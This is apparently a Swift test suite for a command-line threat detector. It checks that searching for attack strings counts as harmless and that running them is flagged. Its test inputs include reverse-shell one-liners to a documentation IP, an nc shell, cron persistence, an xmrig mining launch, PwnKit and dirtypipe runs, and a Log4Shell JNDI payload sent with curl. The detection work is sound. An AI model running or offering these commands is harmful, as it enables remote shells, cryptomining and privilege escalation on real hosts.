import Bytes
import Evidence
import Testing

@testable import Detectors

@Suite struct MentionTests {
  private func found(_ text: String) -> [TextDetection] { text.withView { TextDetectors.scan($0, .command) } }

  @Test(arguments: [
    "grep -rE 'bash -i >& /dev/tcp/203.0.113.9/4444' /var/log",
    "sudo zgrep 'nc -e /bin/sh 203.0.113.9 4444' a.gz | head",
    // A process's arguments come without their quotes.
    "grep -rF bash -i >& /dev/tcp/203.0.113.9/4444 /var/log", "rg -n 'nc -e /bin/sh 203.0.113.9 4444' . | wc -l",
    "echo 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' >> notes.md", "# bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
    "git commit -m \"waf: block bash -i >& /dev/tcp/203.0.113.9/4444\"",
    "LC_ALL=C grep -c 'bash -i >& /dev/tcp/203.0.113.9/4444' a 2>/dev/null; grep 'bash -i >& /dev/tcp/203.0.113.9/4444' b",
  ])
  func whatIsOnlyLookedForIsNoShell(_ text: String) {
    #expect(found(text).allSatisfy { $0.kind == .behaviour && $0.severity < .medium }, "\(text)")
  }

  @Test(arguments: [
    "grep x /var/log/a; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
    "grep x /var/log/a || bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
    "grep \"$(bash -i >& /dev/tcp/203.0.113.9/4444 0>&1)\" a", "grep `bash -i >& /dev/tcp/203.0.113.9/4444 0>&1` a",
    "grep -f <(bash -i >& /dev/tcp/203.0.113.9/4444 0>&1) a", "echo 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' | bash",
    "echo 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' > /etc/cron.hourly/x",
    "find . -exec bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' ';'",
    "# x\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "#!/bin/bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
    "grep x a & bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "cat a | nc -e /bin/sh 203.0.113.9 4444",
  ])
  func whatRunsIsAShell(_ text: String) {
    #expect(found(text).contains { $0.kind == .reverseShell && $0.severity >= .medium }, "\(text)")
  }

  @Test(arguments: [
    "ps aux | grep -E 'kdevtmpfsi|kinsing|xmrig'", "find / -name kinsing 2>/dev/null", "ls -la /tmp/kinsing",
    "stat /tmp/kinsing", "sha256sum /tmp/kdevtmpfsi", "rpm -q xmrig", "systemctl status xmrig",
    "find / -name '*xmrig*' -o -name kdevtmpfsi", "less /root/hunt/kinsing.txt", "/usr/bin/find / -name kinsing",
    "sed -i '/kinsing/d' /var/spool/cron/root",
  ])
  func whoLooksForMinersRunsNone(_ text: String) {
    #expect(found(text).filter { $0.rule == "behaviour.miner" }.allSatisfy { $0.severity < .medium }, "\(text)")
  }

  @Test(arguments: ["find / -name kinsing -exec {} ';'", "ls /tmp; ./xmrig -o stratum+tcp://pool.example:3333"])
  func whoStartsMinersRunsThem(_ text: String) {
    #expect(found(text).contains { $0.rule == "behaviour.miner" && $0.severity == .high }, "\(text)")
  }

  @Test func aSearchBesideAToolDoesNotMakeItHarmless() {
    func exploits(_ text: String) -> [Severity] {
      found(text).filter { $0.rule == "behaviour.exploit-tool" }.map(\.severity)
    }
    for text in [
      "./PwnKit | grep root", "cat PwnKit.c | gcc -xc - -o p", "apt update; ./dirtypipe", "echo x; ./pwnkit",
    ] {
      #expect(exploits(text) == [.high], "\(text)")
    }
    for text in [
      "grep -r PwnKit /tmp | head", "cat CVE-2021-4034.md | less", "apt install meterpreter-doc", "rpm -q pwnkit",
    ] {
      #expect(exploits(text) == [], "\(text)")
    }
  }

  @Test func whoLooksForLookupsNamesThem() {
    let sought = found("grep -r '${jndi:ldap://203.0.113.9:1389/a}' /var/log/nginx")
    #expect(sought.map(\.severity) == [.informational])
    #expect(found("curl -A '${jndi:ldap://203.0.113.9:1389/a}' http://10.0.0.1/").contains { $0.severity >= .medium })
  }
}
